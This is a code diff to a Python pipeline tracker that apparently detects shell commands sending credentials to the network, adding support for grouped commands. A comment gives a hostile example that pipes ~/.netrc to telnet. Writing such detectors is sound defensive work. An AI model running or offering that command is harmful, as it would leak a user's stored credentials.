@@ -77,11 +77,28 @@ class Pipeline:
         self.flowing: str | None = None  # the secret in the current pipe, if any
         self.stashed: set[str] = set()  # files a secret was written to (env > /tmp/e)
         self.headers: list[str] = []  # the headers senders were given (a token's place)
+        # A group's output is all its commands' (`(cat ~/.netrc; sleep 1) | telnet h 23`):
+        # the secret read inside the group open, if any.
+        self.group: str | None = None
+        self.grouping = False
+
+    def close_group(self) -> None:
+        """The group (``( … )``, ``{ …; }``) ends: what flows on is what any of it read."""
+        if self.grouping:
+            self.flowing = self.group or self.flowing
+        self.grouping, self.group = False, None
 
     def add(self, command: Command, producer: Command | None) -> str | None:
         """Follow ``command`` (``producer``: the command piped into it); say what it sends to
         the network, if it sends a credential."""
+        if command.words[:1] == ("}",):
+            self.close_group()
+            return None
+        if command.after == "(" or command.words[:1] == ("{",):
+            self.grouping, self.group = True, None
         read = _secret_read_by(command)
+        if self.grouping:
+            self.group = self.group or read
         stdin = self.flowing if producer is not None else None
         head = unwrap(command.words)[0][:1]
         if stdin and stdin.startswith("$") and (not head or basename(head[0]) not in _SOCKETS):
